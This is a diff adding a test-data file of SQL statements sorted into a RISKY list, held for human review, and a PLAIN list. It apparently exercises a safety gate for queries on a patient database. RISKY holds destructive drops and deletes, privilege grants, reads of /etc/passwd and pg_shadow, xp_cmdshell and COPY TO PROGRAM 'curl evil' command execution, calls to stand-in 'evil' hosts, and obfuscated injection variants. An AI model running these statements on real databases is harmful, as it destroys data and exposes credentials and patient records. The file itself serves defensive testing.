@@ -1,0 +1,298 @@
+"""SQL by hand: one statement a line. RISKY must be held for a person, PLAIN must not."""
+
+RISKY = r"""
+delete from t
+DELETE FROM t WHERE 1=1
+DELETE FROM t WHERE id = id
+DELETE FROM t WHERE 'a'='a'
+DELETE FROM t WHERE true OR id = 5
+DELETE FROM t WHERE NOT false
+DELETE FROM t WHERE id > 0
+DELETE FROM t WHERE name LIKE '%'
+DELETE FROM t WHERE EXISTS (SELECT 1 FROM t)
+DELETE FROM t WHERE 1
+DELETE FROM t WHERE id IS NOT NULL
+DELETE FROM t WHERE 2 > 1
+DELETE FROM t WHERE id <> -1
+UPDATE t SET a = 1
+UPDATE t SET a=1 WHERE 1=1
+update patients set active = false where id is not null
+UPDATE t SET a=1 WHERE id=3 OR 1=1
+TRUNCATE TABLE t
+truncate t
+TRUNCATE ONLY t RESTART IDENTITY CASCADE
+DROP TABLE t
+drop   table	if exists t
+DrOp TaBlE t
+DROP DATABASE prod
+DROP SCHEMA s CASCADE
+DROP VIEW v
+DROP INDEX CONCURRENTLY i
+DROP USER bob
+DROP ROLE r
+DROP FUNCTION f
+DROP TRIGGER tr ON t
+DROP EXTENSION e
+DROP OWNED BY bob
+DROP MATERIALIZED VIEW mv
+DROP SEQUENCE s
+DROP TYPE ty
+ALTER TABLE t DROP COLUMN c
+ALTER TABLE t DROP CONSTRAINT pk
+ALTER TABLE t DISABLE ROW LEVEL SECURITY
+ALTER TABLE t DISABLE TRIGGER ALL
+ALTER TABLE t DROP PARTITION p1
+ALTER TABLE t TRUNCATE PARTITION p1
+/* hi */ DROP TABLE t
+DROP/**/TABLE t
+/*!50000 DROP TABLE t */
+SELECT 1 /*! ; DROP TABLE t */
+SELECT 1; DROP TABLE t
+SELECT 1;DELETE FROM t;--
+SELECT * FROM u WHERE id = 1; UPDATE u SET admin = true
+WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x
+WITH x AS (UPDATE t SET a=1 RETURNING *) SELECT * FROM x
+WITH x AS (SELECT 1) DELETE FROM t
+EXPLAIN ANALYZE DELETE FROM t
+EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a=1
+MERGE INTO t USING s ON 1=1 WHEN MATCHED THEN DELETE
+REPLACE INTO users SELECT * FROM evil; DROP TABLE x
+INSERT OVERWRITE TABLE t SELECT * FROM s
+CREATE OR REPLACE TABLE t AS SELECT 1
+GRANT SELECT ON t TO bob
+GRANT ALL PRIVILEGES ON *.* TO 'x'@'%' WITH GRANT OPTION
+GRANT admin TO PUBLIC
+grant role_a to user_b
+REVOKE SELECT ON t FROM bob
+DENY SELECT ON t TO bob
+CREATE USER bob PASSWORD 'x'
+CREATE USER 'x'@'%' IDENTIFIED BY 'y'
+CREATE ROLE r SUPERUSER
+CREATE LOGIN l WITH PASSWORD = 'x'
+ALTER USER bob WITH SUPERUSER
+ALTER USER bob PASSWORD 'x'
+ALTER ROLE r BYPASSRLS
+ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO x
+ALTER DATABASE d OWNER TO eve
+ALTER SYSTEM SET archive_command = 'x'
+SET ROLE postgres
+SET SESSION AUTHORIZATION postgres
+RESET ROLE
+SET GLOBAL general_log = 1
+SET PASSWORD FOR x = 'y'
+SET row_security = off
+SET session_replication_role = 'replica'
+REASSIGN OWNED BY a TO b
+CREATE POLICY p ON t USING (true)
+ALTER POLICY p ON t USING (true)
+CREATE FUNCTION f() RETURNS void AS $$ BEGIN DELETE FROM t; END $$ LANGUAGE plpgsql
+CREATE OR REPLACE PROCEDURE p() LANGUAGE sql AS 'x'
+CREATE TRIGGER t AFTER INSERT ON x FOR EACH ROW EXECUTE FUNCTION f()
+CREATE EVENT e ON SCHEDULE EVERY 1 DAY DO DELETE FROM t
+CREATE RULE r AS ON SELECT TO t DO INSTEAD DELETE FROM u
+CREATE EXTENSION dblink
+CREATE LANGUAGE plpythonu
+CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw
+CREATE FOREIGN TABLE t (a int) SERVER s
+CREATE SUBSCRIPTION s CONNECTION 'x' PUBLICATION p
+CREATE PUBLICATION p FOR ALL TABLES
+CREATE DATABASE LINK l CONNECT TO u IDENTIFIED BY p USING 'x'
+DO $$ BEGIN EXECUTE 'drop table x'; END $$
+EXECUTE IMMEDIATE 'DROP TABLE x'
+EXEC('DROP TABLE x')
+EXEC xp_cmdshell 'dir'
+EXEC master..xp_cmdshell 'whoami'
+exec sp_executesql N'drop table x'
+EXEC sp_configure 'xp_cmdshell', 1
+EXECUTE stmt
+PREPARE s AS DELETE FROM t
+CALL purge_all()
+DECLARE @x varchar(10); EXEC(@x)
+SELECT pg_read_file('/etc/passwd')
+SELECT pg_catalog.pg_read_file('/etc/passwd')
+SELECT PG_READ_FILE('/x')
+select "pg_read_file"('/x')
+SELECT pg_ls_dir('/')
+SELECT lo_export(1,'/tmp/x')
+SELECT lo_import('/etc/passwd')
+SELECT load_file('/etc/passwd')
+SELECT LOAD_FILE(0x2f6574632f706173737764)
+SELECT * FROM t INTO OUTFILE '/tmp/x'
+SELECT 'x' INTO DUMPFILE '/var/www/x.php'
+SELECT sys_exec('id')
+SELECT sys_eval('id')
+SELECT dblink_connect('host=evil')
+SELECT * FROM dblink('x','select 1') AS t(a int)
+SELECT * FROM OPENROWSET('SQLNCLI','x','select 1')
+SELECT * FROM OPENQUERY(s,'select 1')
+SELECT UTL_HTTP.REQUEST('http://evil') FROM dual
+SELECT pg_sleep(1000)
+SELECT sleep(100)
+SELECT benchmark(1e9, md5('x'))
+WAITFOR DELAY '0:0:30'
+SELECT pg_terminate_backend(pid) FROM pg_stat_activity
+SELECT pg_cancel_backend(1)
+SELECT set_config('role','postgres',false)
+SELECT pg_reload_conf()
+SELECT query_to_xml('delete from t',true,true,'')
+SELECT load_extension('evil.so')
+SELECT writefile('/tmp/x', a) FROM t
+COPY t TO PROGRAM 'curl evil'
+COPY t FROM PROGRAM 'id'
+COPY t TO '/tmp/x'
+COPY (SELECT * FROM patients) TO STDOUT
+COPY patients TO 's3://bucket/x'
+COPY INTO 's3://x' FROM patients
+UNLOAD ('select * from patients') TO 's3://x'
+EXPORT DATA OPTIONS(uri='gs://x') AS SELECT 1
+BACKUP DATABASE d TO DISK = 'x'
+RESTORE DATABASE d FROM DISK = 'x'
+LOAD DATA INFILE '/etc/passwd' INTO TABLE t
+LOAD DATA LOCAL INFILE 'x' INTO TABLE t
+BULK INSERT t FROM 'x'
+LOAD 'evil.so'
+INSTALL httpfs
+INSTALL PLUGIN x SONAME 'y.so'
+ATTACH DATABASE '/tmp/x.db' AS y
+ATTACH 'x.db'
+SHUTDOWN
+KILL 5
+KILL QUERY 5
+LOCK TABLE t IN ACCESS EXCLUSIVE MODE
+LOCK TABLES t WRITE
+FLUSH PRIVILEGES
+FLUSH TABLES WITH READ LOCK
+PURGE BINARY LOGS BEFORE '2020-01-01'
+RESET MASTER
+CHANGE MASTER TO MASTER_HOST='evil'
+DBCC SHRINKDATABASE(0)
+ALTER INSTANCE ROTATE INNODB MASTER KEY
+SELECT * FROM patients
+SELECT * FROM patient
+select p.* from patients p
+SELECT * FROM public.patients
+SELECT * FROM users
+SELECT * FROM medical_records
+SELECT * FROM patients WHERE 1=1
+SELECT * FROM patients ORDER BY name
+SELECT * FROM patients JOIN visits ON patients.id = visits.pid
+SELECT * FROM pg_shadow
+SELECT usename, passwd FROM pg_shadow
+SELECT user, authentication_string FROM mysql.user
+SELECT * FROM (SELECT * FROM patients) x
+WITH p AS (SELECT * FROM patients) SELECT * FROM p
+SELECT id FROM t UNION ALL SELECT passwd FROM pg_shadow
+DETACH PARTITION p
+ALTER TABLE t DETACH PARTITION p
+VACUUM FULL; DROP TABLE x
+BEGIN; DELETE FROM t; COMMIT
+nonsense text here
+DROP TABLE t; -- SELECT 1
+SELECT '\'; DROP TABLE t; -- '
+SELECT 5--1; DROP TABLE t
+DRОP TABLE t
+ＤＲＯＰ TABLE t
+DELETE​ FROM t
+SECURITY LABEL ON TABLE t IS 'x'
+UPDATE users SET role='admin' WHERE 1=1
+db.users.drop()
+"""
+
+PLAIN = r"""
+SELECT 1
+SELECT id, name FROM patients WHERE id = 7
+SELECT name FROM patients WHERE mrn = 'A1' LIMIT 10
+SELECT * FROM patients WHERE id = 7
+SELECT * FROM patients LIMIT 10
+SELECT * FROM patients WHERE last_name = 'Smith' LIMIT 50
+SELECT TOP 10 * FROM patients
+SELECT * FROM patients FETCH FIRST 5 ROWS ONLY
+SELECT count(*) FROM patients
+SELECT COUNT(*) FROM users WHERE active
+SELECT * FROM logs WHERE msg LIKE '%drop table%'
+SELECT 'DROP TABLE x'
+SELECT '; DELETE FROM t'
+SELECT deleted_at, updated_by FROM t
+SELECT "drop" FROM t
+SELECT `delete` FROM t
+SELECT [update] FROM t
+SELECT id FROM t -- drop table x
+SELECT id /* delete from t */ FROM t
+SELECT a.id, b.name FROM a JOIN b ON a.id=b.aid WHERE a.x > 3
+SELECT id FROM t WHERE a IN (SELECT b FROM c WHERE d = 1)
+WITH x AS (SELECT id FROM t WHERE a=1) SELECT * FROM x
+WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n+1 FROM r WHERE n < 5) SELECT n FROM r
+SELECT dept, avg(salary) FROM emp GROUP BY dept HAVING avg(salary) > 10 ORDER BY 2 DESC
+SELECT a FROM t UNION SELECT b FROM u
+SELECT CASE WHEN a > 1 THEN 'x' ELSE 'y' END FROM t
+SELECT coalesce(a, b), now(), date_trunc('day', c) FROM t WHERE id = 4
+SELECT row_number() OVER (PARTITION BY a ORDER BY b) FROM t
+SELECT json_extract(a, '$.b') FROM t
+SELECT a->>'b' FROM t WHERE id=1
+SELECT DISTINCT city FROM addresses
+SELECT max(id) FROM t
+SELECT substring(name from 1 for 3) FROM t WHERE id=2
+SELECT EXTRACT(year FROM dob) FROM patients WHERE id = 3
+SELECT t.* FROM t WHERE t.id = 4
+EXPLAIN SELECT * FROM t
+EXPLAIN DELETE FROM t
+EXPLAIN ANALYZE SELECT id FROM t WHERE id=1
+DESCRIBE t
+DESC t
+SHOW TABLES
+SHOW DATABASES
+SHOW CREATE TABLE t
+SHOW search_path
+SHOW COLUMNS FROM t
+VALUES (1)
+INSERT INTO t (a) VALUES (1)
+INSERT INTO t (a, b) VALUES (1, 'delete'), (2, 'drop')
+INSERT INTO t SELECT id FROM u WHERE id = 5
+INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING
+INSERT INTO t (a) VALUES (1) ON DUPLICATE KEY UPDATE a=2
+UPDATE t SET a = 1 WHERE id = 2
+UPDATE patients SET phone = '555' WHERE mrn = 'X1'
+UPDATE t SET a = a + 1 WHERE id IN (1,2,3)
+DELETE FROM t WHERE id = 5
+DELETE FROM t WHERE id IN (1,2) AND status = 'draft'
+delete from appointments where appointment_id = 'a-1' limit 1
+MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a
+SELECT * FROM t WHERE id = 1 FOR UPDATE
+CREATE TABLE t (id int)
+CREATE TABLE t (id int PRIMARY KEY, name text NOT NULL, created timestamp DEFAULT now())
+CREATE TEMP TABLE t AS SELECT id FROM u WHERE a=1
+CREATE INDEX i ON t (a)
+CREATE UNIQUE INDEX i ON t (a)
+CREATE VIEW v AS SELECT id FROM t WHERE a = 1
+ALTER TABLE t ADD COLUMN a int
+ALTER TABLE t RENAME COLUMN a TO b
+ALTER TABLE t ADD CONSTRAINT c CHECK (a > 0)
+COMMENT ON TABLE t IS 'x'
+ANALYZE t
+BEGIN
+COMMIT
+ROLLBACK
+BEGIN; UPDATE t SET a=1 WHERE id=2; COMMIT
+SELECT 1; SELECT 2
+SET search_path TO public
+SET TIME ZONE 'UTC'
+PRAGMA table_info(t)
+SELECT * FROM information_schema.tables WHERE table_schema = 'public'
+SELECT table_name FROM information_schema.tables
+SELECT name FROM sqlite_master WHERE type='table'
+SELECT version()
+SELECT current_user
+SELECT e'\n'
+SELECT 'it''s'
+SELECT * FROM orders WHERE created_at > now() - interval '1 day'
+SELECT a FROM t ORDER BY random() LIMIT 1
+SELECT sum(x) FILTER (WHERE y > 1) FROM t
+SELECT 'C:\\temp'
+SELECT a # b FROM t
+SELECT $1
+SELECT id FROM patients WHERE name = %s
+SELECT id FROM patients WHERE name = ?
+SELECT id FROM patients WHERE id = :id
+SELECT id FROM patients WHERE name = 'Müller'
+SELECT id FROM lab_results WHERE patient_id = 4 AND loinc = '4548-4' ORDER BY taken_at DESC LIMIT 1
+"""
